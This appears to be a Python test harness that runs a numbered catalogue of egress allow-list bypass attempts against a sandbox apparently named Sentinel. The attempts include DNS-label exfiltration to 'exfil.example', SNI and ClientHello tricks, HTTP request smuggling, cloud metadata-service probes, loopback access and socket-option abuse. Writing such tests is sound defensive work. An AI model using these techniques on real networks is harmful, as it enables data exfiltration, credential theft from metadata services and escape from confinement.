"""What a payload tries to get past an allow-list: attempts.py [GROUP...]

Prints one JSON line for each attempt: blocked, worked or error. The allow-list that it meets is

    allowed.test:443 (tls), plain.test:80 (http), raw.test:7777 (raw), ssh.test:22 (ssh),
    **.wild.test:443 (tls), auto.test:9999 (auto), inward.test, flips.test, mixed.test:443
    denied: bad.wild.test

The numbers in `row` are those of the catalogue of bypasses that Sentinel is tested with.
"""
import ctypes
import json
import os
import random
import select
import socket
import ssl
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
ALLOWED, DENIED = "allowed.test", "denied.test"


def tell(row, attempt, result, detail="", error=0):
    print(json.dumps({"row": row, "attempt": attempt, "result": result, "errno": error or 0,
                      "detail": str(detail)[:300]}), flush=True)


def attempt(row, name):
    """A decorator: the function returns a text when the attempt worked, else nothing or raises."""
    def register(function):
        ATTEMPTS.append((row, name, function))
        return function
    return register


ATTEMPTS = []


def run(groups):
    for row, name, function in ATTEMPTS:
        if groups and row not in groups:
            continue
        try:
            detail = function()
            tell(row, name, "worked" if detail is not None else "blocked", detail or "")
        except Blocked as reason:
            tell(row, name, "blocked", reason)
        except (OSError, ssl.SSLError) as problem:
            tell(row, name, "blocked", problem, problem.errno)
        except Exception as problem:  # the attempt itself is broken
            tell(row, name, "error", repr(problem))


class Blocked(Exception):
    pass


# --- Tools

def resolve(name, family=socket.AF_INET):
    return socket.getaddrinfo(name, 0, family, socket.SOCK_STREAM)[0][4][0]


def dial(host, port, seconds=5):
    return socket.create_connection((host, port), seconds)


def tls(name, sni, port=443, address=None):
    """The answer of the server behind TLS with a server name of choice."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with dial(address or resolve(name), port) as raw:
        with context.wrap_socket(raw, server_hostname=sni) as stream:
            stream.sendall(f"GET / HTTP/1.1\r\nHost: {sni or name}\r\n\r\n".encode())
            return receive(stream)


def receive(stream, seconds=5):
    stream.settimeout(seconds)
    data = stream.recv(65536)
    if not data:
        raise Blocked("closed without a word")
    return data.decode("latin-1")


def receive_all(stream, seconds=3):
    """Everything until the end, or until nothing more comes."""
    text = ""
    stream.settimeout(seconds)
    try:
        while data := stream.recv(65536):
            text += data.decode("latin-1")
    except TimeoutError:
        pass
    return text


def http(name, text, port=80):
    """The answer to bytes that are sent to an HTTP port; an answer of the policy is a block."""
    with dial(resolve(name), port) as stream:
        stream.sendall(text if isinstance(text, bytes) else text.encode("latin-1"))
        return judged(receive(stream))


def judged(answer):
    if answer.startswith("HTTP/1.1 200"):
        return answer
    raise Blocked(answer)


def question(name, kind=1, flags=0x0100, labels=None, extra=b"", cls=1, count=1):
    labels = name.encode().split(b".") if labels is None else labels
    body = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    return struct.pack(">HHHHHH", random.randrange(65536), flags, count, 0, 0, 0) + (
        body + struct.pack(">HH", kind, cls)) * count + extra


def ask(message, server="198.18.0.53", seconds=2, port=53):
    """The code and the answers of a question; silence is a timeout."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(seconds)
        link.connect((server, port))
        link.send(message)
        return link.recv(4096)


def code(reply):
    return reply[3] & 15


def answers(reply):
    return struct.unpack_from(">H", reply, 6)[0]


def refuse_answer(reply):
    if answers(reply):
        return f"{answers(reply)} records"
    raise Blocked(f"code {code(reply)}")


def hello(name, extra=b"", versions=b"\x02\x03\x04", shares=None):
    """A ClientHello of TLS 1.3 with the server name of choice."""
    if shares is None:
        shares = b"\0\x1d\0\x20" + os.urandom(32)
    def extension(kind, data):
        return struct.pack(">HH", kind, len(data)) + data
    extensions = b""
    if name is not None:
        entry = b"\0" + struct.pack(">H", len(name)) + name
        extensions += extension(0, struct.pack(">H", len(entry)) + entry)
    extensions += extension(43, versions) + extension(10, b"\0\2\0\x1d")
    extensions += extension(13, b"\0\4\4\3\x08\4")
    extensions += extension(51, struct.pack(">H", len(shares)) + shares) + extra
    body = b"\3\3" + os.urandom(32) + b"\0" + b"\0\2\x13\1" + b"\1\0"
    body += struct.pack(">H", len(extensions)) + extensions
    handshake = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack(">H", len(handshake)) + handshake


def first_answer(name, chunks, port=443, pause=0.0, seconds=15):
    """What the server says to bytes in pieces: a handshake worked, an alert or an end did not."""
    with dial(resolve(name), port) as stream:
        for chunk in chunks:
            stream.sendall(chunk)
            if pause:
                time.sleep(pause)
        stream.settimeout(seconds)
        data = stream.recv(4096)
    if data[:1] == b"\x16":
        return "a handshake"
    raise Blocked(data[:40] if data else "closed")


# --- What must work

@attempt("W1", "TLS to an allowed name")
def _():
    return judged(tls(ALLOWED, ALLOWED))


@attempt("W2", "HTTP to an allowed name")
def _():
    return http("plain.test", "GET / HTTP/1.1\r\nHost: plain.test\r\n\r\n")


@attempt("W3", "bytes to an allowed name")
def _():
    with dial("raw.test", 7777) as stream:
        stream.sendall(b"ping")
        return receive(stream)


@attempt("W4", "a server that speaks first")
def _():
    with dial("ssh.test", 22) as stream:
        stream.sendall(b"SSH-2.0-client\r\n")
        return receive(stream)


@attempt("W5", "a name below a wildcard")
def _():
    return judged(tls("a.b.wild.test", "a.b.wild.test"))


@attempt("W6", "6 MiB there and back, and an end in one direction")
def _():
    size, got = 6 << 20, 0
    with dial("raw.test", 7777) as stream:
        stream.settimeout(60)
        block = os.urandom(1 << 16)
        sent = 0
        while sent < size or got < size:
            readable, writable, _ = select.select([stream], [stream] if sent < size else [], [], 30)
            if writable:
                sent += stream.send(block[sent % len(block):])
                if sent >= size:
                    stream.shutdown(socket.SHUT_WR)
            if readable:
                data = stream.recv(1 << 18)
                if not data:
                    break
                got += len(data)
        return "whole" if got == sent else None


@attempt("W7", "several requests on one connection")
def _():
    with dial("plain.test", 80) as stream:
        for _ in range(3):
            stream.sendall(b"GET / HTTP/1.1\r\nHost: plain.test\r\n\r\n")
            judged(receive(stream))
    return "three"


@attempt("W8", "auto with TLS, and with a server that speaks first")
def _():
    with dial("auto.test", 9999) as stream:
        stream.sendall(b"anything")
        return receive(stream)


# --- Names (2.1)

@attempt("E01", "data in labels of a foreign zone")
def _():
    reply = b""
    for kind in (1, 28, 16, 10, 5):
        reply = ask(question(f"{os.urandom(25).hex()}.exfil.example", kind))
        if answers(reply):
            return f"type {kind}"
    refuse_answer(reply)


@attempt("E02", "data in names through the library")
def _():
    return resolve(f"{os.urandom(20).hex()}.exfil.example")


@attempt("E05", "a public resolver that is named by address")
def _():
    return refuse_answer(ask(question(DENIED), server="8.8.8.8"))


@attempt("E06", "a denied name over TCP")
def _():
    message = question(DENIED)
    with dial("198.18.0.53", 53) as stream:
        stream.sendall(struct.pack(">H", len(message)) + message)
        size = struct.unpack(">H", stream.recv(2))[0]
        return refuse_answer(stream.recv(size))


@attempt("E07", "DNS over TLS")
def _():
    return dial("198.18.0.53", 853) and "connected"


@attempt("E09", "HTTPS and SVCB records of an allowed name")
def _():
    for kind in (64, 65):
        reply = ask(question(ALLOWED, kind))
        if answers(reply):
            return "records"
    refuse_answer(reply)


@attempt("E10", "ANY, AXFR, class CH, UPDATE, NOTIFY, two questions")
def _():
    for message in (question(ALLOWED, 255), question(ALLOWED, 252), question(ALLOWED, cls=3),
                    question(ALLOWED, flags=0x2800), question(ALLOWED, flags=0x2000),
                    question(ALLOWED, count=2)):
        reply = ask(message)
        if answers(reply) or code(reply) == 0:
            return f"code {code(reply)}"


@attempt("E12", "a response in place of a question")
def _():
    try:
        reply = ask(question(ALLOWED, flags=0x8180), seconds=0.5)
    except TimeoutError:
        return None
    return "an answer" if answers(reply) else None


@attempt("E14", "two final dots")
def _():
    return refuse_answer(ask(question("", labels=[b"allowed", b"test", b"", b""])))


@attempt("E16", "names that look like an allowed one")
def _():
    for name in ("evil-allowed.test", "allowed.test.evil.test", "allowedxtest", "xallowed.test",
                 "sub.allowed.test"):
        reply = ask(question(name))
        if answers(reply):
            return name


@attempt("E19", "full-width digits and dots")
def _():
    return refuse_answer(ask(question("", labels=["allowed\uff0etest".encode()])))


@attempt("E22", "NUL, space, dot and line ends inside a label")
def _():
    for label in (b"allowed.test", b"allowed\0", b"a b", b"a\r\nb", b"a\\b", b"a%2e"):
        for labels in ([label], [label, b"test"]):
            if answers(ask(question("", labels=labels))):
                return repr(label)


@attempt("E25", "a denied name below a wildcard that allows its neighbours")
def _():
    return resolve("bad.wild.test")


# --- Addresses (2.2)

@attempt("E27", "public addresses")
def _():
    for address in ("93.184.216.34", "1.1.1.1", "8.8.8.8", "203.0.113.7"):
        for port in (80, 443, 53, 7777):
            try:
                dial(address, port, 1).close()
                if port != 53:
                    return f"{address}:{port}"
            except OSError:
                pass


@attempt("E28", "public addresses of IPv6, mapped and translated forms")
def _():
    for address in ("2606:4700:4700::1111", "::ffff:93.184.216.34", "64:ff9b::5db8:d822",
                    "2002:5db8:d822::1", "fe80::1"):
        try:
            dial(address, 443, 1).close()
            return address
        except OSError:
            pass


@attempt("E30", "an address that stands for no name")
def _():
    with dial("198.18.200.200", 7777, 3) as stream:
        stream.sendall(b"ping")
        return receive(stream, 3)


@attempt("E31", "a port that no rule names")
def _():
    for port in (81, 8080, 3306, 9):
        try:
            dial(resolve(ALLOWED), port, 2).close()
            return str(port)
        except OSError:
            pass


@attempt("E31b", "a port that another name has")
def _():
    with dial(resolve(ALLOWED), 7777) as stream:
        stream.sendall(b"ping")
        return receive(stream)


@attempt("E32", "metadata services")
def _():
    for address in ("169.254.169.254", "168.63.129.16", "100.100.100.200", "192.0.0.192",
                    "fd00:ec2::254"):
        for port in (80, 443):
            try:
                dial(address, port, 1).close()
                return address
            except OSError:
                pass


@attempt("E33", "an allowed name whose address is the host's loopback")
def _():
    return judged(tls("inward.test", "inward.test"))


@attempt("E33b", "allowed names that lead to private, link-local, metadata and translated addresses")
def _():
    for number in range(9):
        try:
            return judged(tls(f"inward{number}.wild.test", f"inward{number}.wild.test"))
        except (OSError, Blocked):
            pass


@attempt("E34", "a name whose second answer is private")
def _():
    for _ in range(6):
        answer = tls("flips.wild.test", "flips.wild.test")
        if '"address": "10.' in answer:
            return answer


@attempt("E38", "new routes, addresses and interfaces")
def _():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
        body = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0)
        link.send(struct.pack("=IHHII", 16 + len(body), 24, 0x405, 1, 0) + body)
        result = struct.unpack_from("=i", link.recv(4096), 16)[0]
    if result == 0:
        return "a route"
    raise Blocked(os.strerror(-result))


@attempt("E41", "raw sockets")
def _():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    return "opened"


# --- TLS (2.3)

@attempt("E42", "another server name")
def _():
    return judged(tls(ALLOWED, DENIED))


@attempt("E43", "no server name")
def _():
    return judged(tls(ALLOWED, None))


@attempt("E44", "a hello in pieces that asks for another name")
def _():
    data = hello(DENIED.encode())
    return first_answer(ALLOWED, [data[i:i + 1] for i in range(len(data))], pause=0.0005)


@attempt("W44", "a hello in pieces that asks for the right name")
def _():
    data = hello(ALLOWED.encode())
    return first_answer(ALLOWED, [data[i:i + 1] for i in range(len(data))], pause=0.0005)


@attempt("E45", "two server names in one hello")
def _():
    entry = b"\0" + struct.pack(">H", len(DENIED)) + DENIED.encode()
    names = struct.pack(">H", len(entry)) + entry
    return first_answer(ALLOWED, [hello(ALLOWED.encode(), struct.pack(">HH", 0, len(names)) + names)])


@attempt("E46", "NUL in the server name")
def _():
    return first_answer(ALLOWED, [hello(ALLOWED.encode() + b"\0." + DENIED.encode())])


@attempt("E47", "an empty record, SSL 2, an oversize hello")
def _():
    for data in (b"\x16\3\1\0\0" + hello(ALLOWED.encode()), b"\x80\x2e\1\0\2\0\x15\0\0\0\x10",
                 b"\x16\3\1\x40\0\1\0\xff\xff" + b"x" * 40000):
        try:
            return first_answer(ALLOWED, [data])
        except (OSError, Blocked):
            pass


@attempt("E48", "bytes that are no TLS")
def _():
    return first_answer(ALLOWED, [b"SSH-2.0-client\r\n" * 4])


@attempt("E49", "an encrypted hello")
def _():
    ech = struct.pack(">HH", 0xFE0D, 8) + b"\0" * 8
    return first_answer(ALLOWED, [hello(ALLOWED.encode(), ech)])


def after_retry(second):
    """The server's answer to a second hello, which it asked for because the first has no key."""
    first = hello(ALLOWED.encode(), shares=b"")
    with dial(resolve(ALLOWED), 443) as stream:
        stream.settimeout(5)
        stream.sendall(first)
        if stream.recv(4096)[:1] != b"\x16":
            raise Blocked("no request for another hello")
        stream.sendall(second)
        data = stream.recv(4096)
    if data[:1] == b"\x16":
        return "a handshake"
    raise Blocked(data[:40] if data else "closed")


@attempt("E53", "another server name in the hello that the server asks for")
def _():
    return after_retry(hello(DENIED.encode()))


@attempt("W53", "the right server name in the hello that the server asks for")
def _():
    return after_retry(hello(ALLOWED.encode()))


@attempt("E54", "a client that says nothing on a TLS port")
def _():
    with dial(resolve(ALLOWED), 443) as stream:
        stream.settimeout(25)
        begin = time.monotonic()
        if stream.recv(10):
            return "an answer"
        raise Blocked(f"closed after {time.monotonic() - begin:.1f} s")


# --- HTTP (2.4)

@attempt("E55", "another Host")
def _():
    return http("plain.test", f"GET / HTTP/1.1\r\nHost: {DENIED}\r\n\r\n")


@attempt("E56", "another Host in the second request of a connection")
def _():
    with dial("plain.test", 80) as stream:
        stream.sendall(b"GET / HTTP/1.1\r\nHost: plain.test\r\n\r\n")
        judged(receive(stream))
        stream.sendall(f"GET /second HTTP/1.1\r\nHost: {DENIED}\r\n\r\n".encode())
        return judged(receive(stream))


@attempt("E56b", "another Host behind a body of the wrong length")
def _():
    with dial("plain.test", 80) as stream:
        stream.sendall(b"POST / HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 4\r\n\r\nbody"
                       + f"GET /second HTTP/1.1\r\nHost: {DENIED}\r\n\r\n".encode())
        text = receive_all(stream)
        return text if DENIED in text and text.count("200 OK") > 1 else None


@attempt("E59b", "a request in the body of a GET, for a server that overlooks it")
def _():
    inner = f"GET /smuggled HTTP/1.1\r\nHost: {DENIED}\r\n\r\n"
    with dial("plain.test", 80) as stream:
        stream.sendall((f"GET / HTTP/1.1\r\nHost: plain.test\r\nContent-Length: {len(inner)}\r\n\r\n"
                        + inner).encode())
        text = receive_all(stream)
        return text if DENIED in text else None


@attempt("E59c", "an underscore in place of a hyphen")
def _():
    return http("plain.test", "POST / HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 0\r\n"
                "Transfer_Encoding: chunked\r\n\r\n")


@attempt("E57", "two Hosts, none, user information, folding, a space before the colon")
def _():
    for fields in ("Host: plain.test\r\nHost: denied.test", "X: y", "Host: user@plain.test",
                   "Host: plain.test\r\n denied.test", "Host : plain.test", "Host: plain.test\0",
                   "Host: plain.test, denied.test"):
        try:
            return http("plain.test", f"GET / HTTP/1.1\r\n{fields}\r\n\r\n")
        except (OSError, Blocked):
            pass


@attempt("E58", "absolute targets, CONNECT, bare line feeds")
def _():
    for text in (f"GET http://{DENIED}/ HTTP/1.1\r\nHost: plain.test\r\n\r\n",
                 f"CONNECT {DENIED}:443 HTTP/1.1\r\nHost: plain.test\r\n\r\n",
                 "GET / HTTP/1.1\nHost: plain.test\n\n"):
        try:
            return http("plain.test", text)
        except (OSError, Blocked):
            pass


@attempt("E59", "two lengths, a length and chunks, codings after chunks")
def _():
    for fields in ("Content-Length: 4\r\nContent-Length: 5\r\n\r\nbodyx",
                   "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                   "Content-Length: -1\r\n\r\n", "Content-Length: 4, 4\r\n\r\nbody",
                   "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n"):
        try:
            return http("plain.test", f"POST / HTTP/1.1\r\nHost: plain.test\r\n{fields}")
        except (OSError, Blocked):
            pass


@attempt("E60", "an upgrade and the preface of HTTP/2")
def _():
    for text in ("GET / HTTP/1.1\r\nHost: plain.test\r\nConnection: Upgrade, HTTP2-Settings\r\n"
                 "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
                 "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                 "GET / HTTP/1.1\r\nHost: plain.test\r\nConnection: upgrade\r\n"
                 "Upgrade: websocket\r\n\r\n"):
        try:
            return http("plain.test", text)
        except (OSError, Blocked):
            pass


@attempt("E63", "TRACE")
def _():
    return http("plain.test", "TRACE / HTTP/1.1\r\nHost: plain.test\r\n\r\n")


# --- Transport (2.5)

@attempt("E66", "datagrams to names and addresses")
def _():
    for address in (resolve(ALLOWED), "93.184.216.34"):
        for port in (443, 123):
            try:
                ask(b"ping", server=address, port=port, seconds=0.5)
                return f"{address}:{port}"
            except OSError:
                pass


@attempt("E68", "MPTCP and data in the first packet")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as stream:
        stream.settimeout(3)
        stream.connect((resolve(ALLOWED), 443))
        stream.sendall(hello(DENIED.encode()))
        data = stream.recv(100)
        return "a handshake" if data[:1] == b"\x16" else None


@attempt("E73", "a socket that is connected a second time")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.settimeout(3)
        stream.connect((resolve("raw.test"), 7777))
        stream.settimeout(None)
        libc.connect(stream.fileno(), struct.pack("=H14x", 0), 16)  # AF_UNSPEC dissolves it
        stream.connect(("93.184.216.34", 7777))
        return "connected"


@attempt("E75", "options that change where packets go")
def _():
    done = []
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
        for name, level, option, value in (
                ("SO_MARK", socket.SOL_SOCKET, 36, 1), ("IP_TRANSPARENT", socket.IPPROTO_IP, 19, 1),
                ("TCP_REPAIR", socket.IPPROTO_TCP, 19, 1)):
            try:
                stream.setsockopt(level, option, value)
                done.append(name)
            except OSError:
                pass
    return ", ".join(done) or None


@attempt("E77", "sockets of others in the tables of proc")
def _():
    own = {"00000000:0000"}
    with open("/proc/net/tcp") as table:
        rows = [line.split()[1] for line in table.readlines()[1:]]
    listening = [row for row in rows if row not in own and not row.startswith("0200")]
    return ", ".join(listening) or None


@attempt("E78", "services of the host's loopback")
def _():
    for address in ("127.0.0.1", "::1", "localhost"):
        for port in (7777, 443, 80, 22):
            try:
                dial(address, port, 1).close()
                return f"{address}:{port}"
            except OSError:
                pass


# --- Time (2.7)

@attempt("E91", "a head and a field that are too large")
def _():
    for text in ("GET / HTTP/1.1\r\nHost: plain.test\r\nX: " + "y" * 70000 + "\r\n\r\n",
                 "GET /" + "a" * 70000 + " HTTP/1.1\r\nHost: plain.test\r\n\r\n",
                 "GET / HTTP/1.1\r\nHost: plain.test\r\n" + "X: y\r\n" * 500 + "\r\n"):
        try:
            return http("plain.test", text)
        except (OSError, Blocked):
            pass


@attempt("S1", "denied names fail fast")
def _():
    begin = time.monotonic()
    for _ in range(50):
        try:
            resolve(f"{os.urandom(4).hex()}.example")
            return "resolved"
        except OSError:
            pass
    seconds = time.monotonic() - begin
    return f"{seconds:.1f} s" if seconds > 2 else None


if __name__ == "__main__":
    run(sys.argv[1:])
